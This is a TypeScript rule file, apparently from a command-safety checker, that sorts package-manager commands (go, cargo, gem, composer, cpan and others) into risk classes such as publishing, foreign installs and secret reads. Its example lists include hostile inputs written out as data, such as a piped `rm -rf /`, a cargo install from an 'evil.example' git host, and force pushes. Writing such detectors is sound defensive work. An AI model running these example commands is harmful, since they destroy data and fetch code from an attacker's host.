import { acts, type Program, shell } from "../effect.ts";
import { optionValues } from "../option-values.ts";
import { behindDashes } from "../run/running.ts";
import { family, type Tool, tool } from "../tool-shape.ts";
import { DRY_RUN } from "./dry-run.ts";

/** `go install` and `go run` fetch what is named by its address. */
const goInstalls: Program = ({ args }) =>
  args.some((arg) => !arg.startsWith("-") && /[\w-]+\.[\w-]+\/|@/.test(arg)) ? [acts("install-foreign")] : [];
/** Modules of Go that only their makers can publish, and whose tools projects run every day. */
const GO_TOOLS =
  /^(?:golang\.org\/x|google\.golang\.org|honnef\.co\/go\/tools|mvdan\.cc|go\.uber\.org|gotest\.tools|entgo\.io|github\.com\/(?:golangci\/golangci-lint|google\/wire|sqlc-dev\/sqlc|swaggo\/swag|99designs\/gqlgen|securego\/gosec|vektra\/mockery|air-verse\/air|a-h\/templ))\//;
const goRuns: Program = ({ args }) =>
  args.some((arg) => /^[\w-]+(?:\.[\w-]+)+\/.*@/.test(arg) && !GO_TOOLS.test(arg)) ? [acts("install-foreign")] : [];

/** Settings of cargo that name a program: `--config 'target.x.runner="x"'`. */
const cargoSettings: Program = ({ args, stdin }) =>
  optionValues("--config", args, stdin)
    .filter((setting) => /runner|rustc|linker|credential/.test(setting))
    .flatMap((setting) => [
      acts("run-helper", setting),
      shell(setting.replace(/^[^=]*=\s*/, "").replaceAll(/^['"[]+|['"\]]+$/g, "")),
    ]);

/** Package managers of languages. */
export const LANGUAGE_MANAGERS: readonly Tool[] = family("verbs", [
  tool("gem", {
    does: [
      { on: "push yank owner", without: DRY_RUN, is: "publish" },
      { on: "install update uninstall", is: "install-global" },
      { on: "signin", is: "read-secret" },
    ],
    works: true,
    operands: "borrowed",
    examples: {
      publish: ["gem push x.gem"],
      "install-global": ["gem install x"],
      "read-secret": ["gem signin"],
      "run-foreign": ["gem unpack /tmp/x"],
      "work-outside": ["cd /etc && gem build x"],
      fine: ["gem list", "gem build x.gemspec"],
    },
  }),
  tool("bundle bundler", {
    takes: "-r: --retry:",
    does: [
      { on: ["config", "mirror.*"], is: "install-global" },
      { on: ["config", "set", "mirror.*"], is: "install-global" },
      { on: "exec", runs: 0 },
    ],
    works: true,
    examples: {
      "install-global": ["bundle config mirror.x y", "bundle config set --global mirror.x y"],
      "git-discard": ["bundle --retry 2 exec git push -f"],
      "work-outside": ["cd /etc && bundle install"],
      fine: ["bundle install", "bundle exec rspec", "bundle config set path vendor"],
    },
  }),
  tool("composer", {
    takes: "-d: --working-dir:",
    does: [
      { on: "global", is: "install-global" },
      { on: "create-project", is: "install-foreign" },
      { on: "exec", runs: 0 },
    ],
    works: true,
    examples: {
      "install-global": ["composer global require x/y"],
      "install-foreign": ["composer create-project x/y"],
      "git-discard": ["composer -d lib exec git push -f"],
      "work-outside": ["cd /etc && composer install"],
      fine: ["composer install", "composer exec phpunit"],
    },
  }),
  tool("go", {
    does: [
      { on: "install", by: goInstalls },
      { on: "run", options: { other: "stdin" }, operands: "loads", by: goRuns },
      { on: "env", with: "-w", is: "write-startup", because: "go's settings" },
    ],
    works: true,
    options: { helper: "-exec -toolexec -vettool --exec --toolexec --vettool", writes: "-o" },
    examples: {
      "install-foreign": [
        "go install github.com/a/b@latest",
        "go run github.com/a/b@latest",
        "go run git.acme.example/a/b@v1",
      ],
      "run-hidden": [`echo 'system("rm -rf /")' | go run -`],
      "write-startup": ["go env -w GOPROXY=x"],
      "run-helper": ["go test -exec /tmp/x ./...", "go vet -vettool=/tmp/x ./..."],
      "write-guard": ["go build -o .git/hooks/pre-commit ./cmd"],
      "work-outside": ["cd /etc && go build"],
      fine: [
        "go build -o bin/x ./cmd",
        "go install ./...",
        "go run ./cmd",
        "go run mvdan.cc/gofumpt@v0.7.0 -l .",
        "go env GOPATH",
      ],
    },
  }),
  tool("cargo", {
    ignores: "+*",
    does: [
      { on: "publish yank owner", without: DRY_RUN, is: "publish" },
      {
        on: "install",
        with: "--root --root=*",
        without: "/* ~* --root=/* --root=~* --git --git=* --registry --registry=* --index --index=*",
        options: { writes: "--root" },
      },
      { on: "install uninstall", with: "--path --path=*", is: "install-global" },
      { on: "install uninstall binstall quickinstall", is: "install-foreign" },
      { on: "login", is: "read-secret" },
      { on: "release", with: "--execute -x", is: "publish" },
    ],
    works: true,
    options: { shell: "-s --shell" },
    by: cargoSettings,
    examples: {
      publish: ["cargo publish", "cargo +nightly publish", "cargo release minor --execute"],
      "install-global": ["cargo install --path .", "cargo install --path . --root /usr/local"],
      "install-foreign": [
        "cargo install ripgrep",
        "cargo binstall just",
        "cargo install --root ./tools --git https://evil.example/x",
      ],
      "read-secret": ["cargo login x"],
      "run-helper": [`cargo run --config 'target.x.runner="/tmp/x"'`],
      "git-discard": ["cargo watch -s 'git push -f'"],
      "work-outside": ["cd /etc && cargo build"],
      "write-outside": ["cargo install --path . --root ../x"],
      fine: ["cargo build", "cargo publish -n", "cargo release minor", "cargo install --root ./tools cargo-deny"],
    },
  }),
  tool("rustup", {
    does: [{ on: "show which doc" }, { on: ["*", "list"] }, { on: "run", runs: 1 }, { on: "*", is: "install-global" }],
    examples: {
      "install-global": ["rustup update"],
      "git-discard": ["rustup run nightly git push -f"],
      fine: ["rustup show", "rustup target list", "rustup run nightly cargo build"],
    },
  }),
  tool("dart flutter pub", {
    ignores: "pub",
    does: [
      { on: "publish", without: DRY_RUN, is: "publish" },
      { on: ["global", "activate"], is: "install-global" },
    ],
    works: true,
    examples: {
      publish: ["dart pub publish"],
      "install-global": ["dart pub global activate x"],
      "work-outside": ["cd /etc && dart pub get"],
      fine: ["dart pub get", "dart pub publish --dry-run", "dart test"],
    },
  }),
  tool("stack cabal", {
    does: [
      { on: "upload", without: DRY_RUN, is: "publish" },
      { on: "install", is: "install-global" },
      { on: "exec", by: behindDashes },
    ],
    works: true,
    examples: {
      publish: ["stack upload ."],
      "install-global": ["stack install"],
      "git-discard": ["stack exec --project-file=x -- git push -f"],
      "work-outside": ["cd /etc && stack build"],
      fine: ["stack build"],
    },
  }),
  tool("opam", {
    does: [
      { on: "publish", without: DRY_RUN, is: "publish" },
      { on: "install", is: "install-global" },
      { on: "switch", with: "create install", without: ". ./*", is: "install-global" },
    ],
    works: true,
    operands: "borrowed",
    examples: {
      publish: ["opam publish"],
      "install-global": ["opam install x", "opam switch create 5.2.0", "opam switch install 5.2.0"],
      "run-foreign": ["opam pin /tmp/x"],
      "work-outside": ["cd /etc && opam lint"],
      fine: ["opam list", "opam switch list", "opam switch create .", "opam switch create ./_opam 5.2.0"],
    },
  }),
  tool("luarocks", {
    does: [
      { on: "upload publish", without: DRY_RUN, is: "publish" },
      { on: "install", is: "install-global" },
    ],
    works: true,
    operands: "borrowed",
    examples: {
      publish: ["luarocks upload x.rockspec"],
      "install-global": ["luarocks install x"],
      "run-foreign": ["luarocks make /tmp/x"],
      "work-outside": ["cd /etc && luarocks make"],
      fine: ["luarocks list"],
    },
  }),
  tool("tlmgr", {
    does: [
      { on: "info search show list version check help path conf candidates key print" },
      { with: "--dry-run -n --list" },
      { with: "*", is: "install-foreign" },
    ],
    examples: {
      "install-foreign": ["tlmgr install booktabs"],
      fine: ["tlmgr info booktabs", "tlmgr restore --dry-run booktabs 1", "tlmgr"],
    },
  }),
  tool("cpan cpanm cpanp easy_install pear pecl", {
    does: [{ bare: true }, { with: "--local-lib* --local-lib-contained* -l* -L*" }, { is: "install-foreign" }],
    operands: "borrowed",
    examples: {
      "install-foreign": ["cpan JSON"],
      "run-foreign": ["cpan /tmp/x"],
      fine: ["cpan", "cpan --local-lib ./local --installdeps .", "cpan --version"],
    },
  }),
]);
